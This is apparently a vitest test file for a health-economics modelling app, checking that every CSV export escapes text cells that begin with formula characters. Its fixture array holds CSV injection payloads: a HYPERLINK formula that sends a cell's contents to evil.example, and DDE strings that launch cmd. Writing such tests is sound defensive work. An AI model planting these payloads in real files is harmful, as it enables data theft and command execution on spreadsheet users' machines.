/**
 * Issue 17, point 6: labels, scenario names, descriptions, units and currency labels that start
 * with `=`, `+`, `-` or `@` (or a tab or carriage return) are written to every CSV as text a
 * spreadsheet does not run: prefixed with an apostrophe (OWASP, "CSV Injection"). Read back
 * with papaparse, no text cell starts with a formula character; numbers stay numbers.
 */
import { describe, it, expect } from 'vitest';
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { compile, run, runPsa } from '../../src/lib/engine';
import { parseBudgetSettings, runBudget } from '../../src/lib/engine/budget';
import { resultRows } from '../../src/lib/ui/resultsTable';
import { resultsCsv, traceCsv, cycleCostsCsv } from '../../src/lib/downloads/csv';
import { compareCsv } from '../../src/lib/downloads/compareCsv';
import { psaDrawsCsv } from '../../src/lib/downloads/psaCsv';
import { budgetCsv } from '../../src/lib/components/budget/budgetCsv';
import { openModel } from '../../src/lib/state/session.svelte';
import { compareInputs, compareResults, type ComparedScenario } from '../../src/lib/state/compare';
import { fixtureModel, fixtureSettings } from './budget-fixtures';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];

const model = JSON.parse(readFileSync('models/hiv-chancellor.json', 'utf8'));
// (the model's currency is no longer free text to inject: costs are converted to it, so it must be a currency the file can reach)
(model.costCategories as { label: string }[]).forEach((c, i) => (c.label = `=${c.label}${i}`));
model.strategies[0].label = HOSTILE[0];
model.strategies[1].label = HOSTILE[1];
model.states[0].label = HOSTILE[2];
model.states[1].label = HOSTILE[3];
model.parameters.rr.description = HOSTILE[4];
model.parameters.rr.unit = HOSTILE[5];
model.parameters.cLamivudine.description = '-cost of lamivudine';

/** every cell of a CSV (header row included) as papaparse reads it, without typing */
const cells = (csv: string): string[] => (Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data as string[][]).flat();
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
/** cells a spreadsheet would run as a formula: starting with a formula character and not a plain number */
const runnable = (csv: string) => cells(csv).filter((c) => FORMULA.test(c) && !NUMBER.test(c));
const escaped = (csv: string) => cells(csv).filter((c) => c.startsWith("'") && FORMULA.test(c.slice(1)));

/** the budget fixture with strategy labels a spreadsheet would run (its currency must stay one costs convert to) */
function hostileBudgetModel() {
	const m = fixtureModel();
	m.strategies.forEach((st, i) => (st.label = `${HOSTILE[i % HOSTILE.length]} ${st.label}`));
	return m;
}

describe('point 6: CSV formula injection', () => {
	const result = run(compile(model));
	const rows = resultRows(result);
	const open = openModel(model, 'file', 'hostile.json');
	const scenarios: ComparedScenario[] = [
		{ name: '=1+1 scenario', inputs: { modelId: 'hiv-chancellor', parameters: {}, settings: {} } },
		{ name: '@scenario', inputs: { modelId: 'hiv-chancellor', parameters: { rr: 0.6, cLamivudine: 3000 }, settings: {} } }
	];
	const csvs = {
		results: resultsCsv(result, rows, '-scenario name'),
		trace: traceCsv(result),
		cycleCosts: cycleCostsCsv(result),
		comparison: compareCsv(scenarios, compareInputs(open, scenarios), compareResults(open, scenarios)),
		psaDraws: psaDrawsCsv(runPsa(compile(model), { iterations: 5, seed: 1 })),
		budget: budgetCsv(runBudget(compile(hostileBudgetModel()), parseBudgetSettings(fixtureSettings())))
	};

	it.each(Object.keys(csvs) as (keyof typeof csvs)[])('%s CSV: no text cell a spreadsheet would run', (name) => {
		expect(runnable(csvs[name])).toEqual([]);
	});

	it('the hostile texts are all there, each escaped with one apostrophe (at least 16 cells)', () => {
		const all = Object.values(csvs).flatMap(escaped);
		expect(all.length).toBeGreaterThanOrEqual(16);
		const results = escaped(csvs.results);
		expect(results).toEqual(expect.arrayContaining([`'${HOSTILE[0]}`, `'${HOSTILE[1]}`, "'-scenario name"]));
		const comparison = escaped(csvs.comparison);
		expect(comparison).toEqual(expect.arrayContaining([`'${HOSTILE[4]}`, `'${HOSTILE[5]}`, "'-cost of lamivudine", "'=1+1 scenario", "'@scenario", `'${HOSTILE[0]}`]));
	});

	it('numbers, negative ones included, stay numbers (not escaped)', () => {
		// the tidy comparison: one row per scenario and input; the scenario name is escaped, the value is a number
		const parsed = Papa.parse<Record<string, unknown>>(csvs.comparison, { header: true, dynamicTyping: true }).data;
		const rr = parsed.find((r) => r.item === 'parameters.rr' && r.scenario === "'@scenario");
		expect(rr?.value).toBe(0.6);
		const cost = Papa.parse<Record<string, unknown>>(csvs.cycleCosts, { header: true, dynamicTyping: true }).data;
		expect(typeof cost[0]['cycle']).toBe('number');
	});
});
